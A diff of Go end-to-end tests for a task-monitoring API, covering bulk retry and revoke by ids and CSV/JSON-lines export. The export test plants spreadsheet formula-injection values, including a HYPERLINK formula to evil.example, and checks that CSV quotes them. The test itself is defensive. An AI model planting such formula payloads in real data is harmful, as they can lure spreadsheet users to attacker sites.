@@ -1,13 +1,16 @@
 package e2e
 
 import (
+	"bytes"
 	"context"
 	"crypto/rand"
+	"encoding/csv"
 	"encoding/hex"
 	"encoding/json"
 	"fmt"
 	"maps"
 	"net/http"
+	"net/url"
 	"slices"
 	"strings"
 	"testing"
@@ -255,6 +258,147 @@ func retryCases() []suiteCase {
 				if info := taskInfo(t, c, newID, "FAILURE"); info["exception"] != want {
 					t.Errorf("retry of %s failed with %v, want %s", old, info["exception"], want)
 				}
+			}
+		}},
+		{"bulk retry and revoke by ids: only the listed tasks that match the filters", func(t *testing.T, c *cluster) {
+			tok := token(t)
+			var olds []string
+			for i := range 5 {
+				olds = append(olds, runTask(t, c, "stamen.echo_fail", map[string]any{"args": []any{i}, "kwargs": map[string]any{"grp": "bi-" + tok}}))
+			}
+			for _, id := range olds {
+				taskInfo(t, c, id, "FAILURE")
+			}
+			// A task of another state among the ids: ANDed with state, it
+			// is not acted on.
+			ok := runTask(t, c, "stamen.add", map[string]any{"args": []any{1, 2}})
+			taskInfo(t, c, ok, "SUCCESS")
+			picked := []string{olds[0], olds[2], olds[4]}
+			ids := strings.Join(append(append([]string{}, picked...), ok, picked[0]), ",")
+			if r := c.api.post("/api/tasks/retry", q("max", "2", "ids", ids, "state", "FAILURE"), nil); r.Status != http.StatusBadRequest {
+				t.Errorf("3 matching ids over max=2: status %d: %s", r.Status, r.Body)
+			}
+			if r := c.api.post("/api/tasks/retry", q("max", "10", "ids", picked[0]+",bad id"), nil); r.Status != http.StatusBadRequest {
+				t.Errorf("an id with a space: status %d: %s", r.Status, r.Body)
+			}
+			// ids given twice: refused, where the last one alone would count.
+			twice := q("max", "10", "dry_run", "true")
+			twice["ids"] = []string{picked[0], picked[1]}
+			if r := c.api.post("/api/tasks/retry", twice, nil); r.Status != http.StatusBadRequest || !strings.Contains(string(r.Body), "ids is given 2 times") {
+				t.Errorf("ids=a&ids=b: status %d: %s", r.Status, r.Body)
+			}
+			dry := c.api.mustOK(c.api.post("/api/tasks/retry", q("max", "3", "ids", ids, "state", "FAILURE", "dry_run", "true"), nil))
+			if dry["matched"] != float64(3) || len(dry["retried"].(map[string]any)) != 0 {
+				t.Fatalf("dry run over 3 failed ids and a succeeded one: %v, want matched 3", dry)
+			}
+			// max is the dry run's count, though 4 distinct ids are listed.
+			r := c.api.mustOK(c.api.post("/api/tasks/retry", q("max", "3", "ids", ids, "state", "FAILURE"), nil))
+			retried, _ := r["retried"].(map[string]any)
+			if r["matched"] != float64(3) || len(retried) != 3 {
+				t.Fatalf("bulk retry by ids: %v", r)
+			}
+			for _, old := range olds {
+				newID, _ := retried[old].(string)
+				if !slices.Contains(picked, old) {
+					if newID != "" {
+						t.Errorf("%s was not listed but was retried as %s", old, newID)
+					}
+					continue
+				}
+				i := slices.Index(olds, old)
+				want := echoFailure(fmt.Sprintf("[%d]", i), fmt.Sprintf(`{"grp": "bi-%s"}`, tok))
+				if info := taskInfo(t, c, newID, "FAILURE"); info["exception"] != want {
+					t.Errorf("retry of %s failed with %v, want %s", old, info["exception"], want)
+				}
+			}
+			// Exactly 3 new tasks carry the group: 5 originals and 3 retries.
+			eventually(t, 10*time.Second, "8 tasks of the group", func() bool {
+				list := c.api.mustOK(c.api.get("/api/tasks", q("taskname", "stamen.echo_fail", "search", "kwargs:grp=bi-"+tok)))
+				return len(list) == 8
+			})
+
+			// Revoke by ids: two parked tasks of five; the others run.
+			var parked []string
+			for i := range 5 {
+				parked = append(parked, runTask(t, c, "stamen.echo", map[string]any{"args": []any{i}, "kwargs": map[string]any{"grp": "bv-" + tok}, "countdown": 8}))
+			}
+			eventually(t, 12*time.Second, "the 5 tasks received", func() bool {
+				for _, id := range parked {
+					if c.api.taskState(id) != "RECEIVED" {
+						return false
+					}
+				}
+				return true
+			})
+			rev := c.api.mustOK(c.api.post("/api/tasks/revoke", q("max", "2", "ids", parked[1]+","+parked[3]), nil))
+			if got, _ := rev["revoked"].([]any); rev["matched"] != float64(2) || len(got) != 2 {
+				t.Fatalf("revoke by ids: %v", rev)
+			}
+			eventually(t, 40*time.Second, "2 revoked, 3 run", func() bool {
+				for i, id := range parked {
+					want := "SUCCESS"
+					if i == 1 || i == 3 {
+						want = "REVOKED"
+					}
+					if c.api.taskState(id) != want {
+						return false
+					}
+				}
+				return true
+			})
+		}},
+		{"export: a cell a spreadsheet would run is quoted in CSV, verbatim in JSON lines", func(t *testing.T, c *cluster) {
+			tok := token(t)
+			// A client chooses the task id and the args/kwargs reprs the
+			// worker's events carry (argsrepr, kwargsrepr); the result of
+			// add(-5, 1) is the repr -4.
+			id := "=" + tok + "+1"
+			args := `=HYPERLINK("http://evil.example/?` + tok + `","click")`
+			kwargs := "@SUM(1+1)"
+			out := testcluster.RunClient(t, testcluster.ClientOptions{Celery: c.celery, Broker: c.cfg.BrokerURL, Backend: c.cfg.ResultBackend}, `
+import sys
+from stamen_testapp import app
+r = app.send_task("stamen.add", args=(-5, 1), task_id=sys.argv[1], argsrepr=sys.argv[2], kwargsrepr=sys.argv[3], queue="celery")
+print(r.id)
+app.close()
+`, id, args, kwargs)
+			if got := strings.TrimSpace(string(out)); got != id {
+				t.Fatalf("the client sent %q, want %q", got, id)
+			}
+			info := taskInfo(t, c, id, "SUCCESS")
+			if info["args"] != args || info["kwargs"] != kwargs || info["result"] != "-4" {
+				t.Fatalf("the worker's events: args %v kwargs %v result %v", info["args"], info["kwargs"], info["result"])
+			}
+			filter := func(format string) url.Values {
+				return q("format", format, "taskname", "stamen.add", "search", tok)
+			}
+			r := c.api.get("/api/tasks", filter("csv"))
+			if r.Status != http.StatusOK {
+				t.Fatalf("csv export: %d %s", r.Status, r.Body)
+			}
+			rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
+			if err != nil || len(rows) != 2 {
+				t.Fatalf("csv export: %d rows, %v:\n%s", len(rows), err, r.Body)
+			}
+			col := map[string]string{}
+			for i, name := range rows[0] {
+				col[name] = rows[1][i]
+			}
+			for f, want := range map[string]string{
+				"uuid": "'" + id, "args": "'" + args, "kwargs": "'" + kwargs, "result": "'-4",
+				"name": "stamen.add", "state": "SUCCESS", "routing_key": "celery",
+			} {
+				if col[f] != want {
+					t.Errorf("csv %s: %q, want %q", f, col[f], want)
+				}
+			}
+			r = c.api.get("/api/tasks", filter("jsonl"))
+			var rec map[string]any
+			if r.Status != http.StatusOK || json.Unmarshal(bytes.TrimSpace(r.Body), &rec) != nil {
+				t.Fatalf("jsonl export: %d %s", r.Status, r.Body)
+			}
+			if rec["uuid"] != id || rec["args"] != args || rec["kwargs"] != kwargs || rec["result"] != "-4" {
+				t.Errorf("jsonl export changed the cells: %v", rec)
 			}
 		}},
 		{"failures: grouped by task name and exception type", func(t *testing.T, c *cluster) {
